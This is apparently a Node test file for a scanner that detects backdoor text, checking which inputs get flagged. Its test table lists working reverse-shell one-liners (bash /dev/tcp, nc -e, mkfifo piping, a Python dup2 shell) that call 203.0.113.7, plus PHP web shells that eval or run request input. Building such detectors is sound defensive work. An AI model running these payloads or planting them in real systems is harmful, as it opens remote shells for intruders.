import assert from 'node:assert/strict'
import { test } from 'node:test'
import { backdoor } from './backdoor.ts'
import { findingsOf, regionsOf } from './testing/said.ts'

const content = [backdoor]
const found = ['high backdoor-text']

const rows: Readonly<Record<string, readonly string[]>> = {
  '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n': found,
  'sh -i 5<> /dev/udp/203.0.113.7/53 0<&5 1>&5\n': found,
  'nc -e /bin/sh 203.0.113.7 4444\n': found,
  'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f\n': found,
  'os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); subprocess.call(["/bin/sh","-i"])\n': found,
  '<?php @eval(base64_decode($_POST["c"])); ?>\n': found,
  '<?php system($_GET["c"]);\n': found,
  'exec 3<>/dev/tcp/localhost/80 && echo up\n': [],
  'timeout 1 bash -c "</dev/tcp/db/5432" && echo up\n': [],
  'nc -z -w 3 db 5432 && exec /bin/sh\n': [],
  '<?php $x = base64_decode($_POST["c"]); eval($template);\n': [],
  '<?php $id = (int) $_GET["id"]; exec($command);\n': [],
  'mkfifo /tmp/f && cat < /tmp/f | sort\n': [],
}
for (const [bytes, expected] of Object.entries(rows)) {
  test(`${JSON.stringify(bytes).slice(1, 90)}: ${expected[0] ?? 'nothing'}`, async () => {
    assert.deepEqual(await findingsOf({ path: '/srv/x', bytes, content }), expected)
  })
}

test('the place is that of the text, and the line is the one of sed', async () => {
  const bytes = 'one\ntwo\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n'
  const [one] = await regionsOf({ path: '/srv/x', bytes, content })
  assert.equal(one?.offset, 8)
  assert.equal(one?.finding?.check, "sed -n '3p' FILE")
})
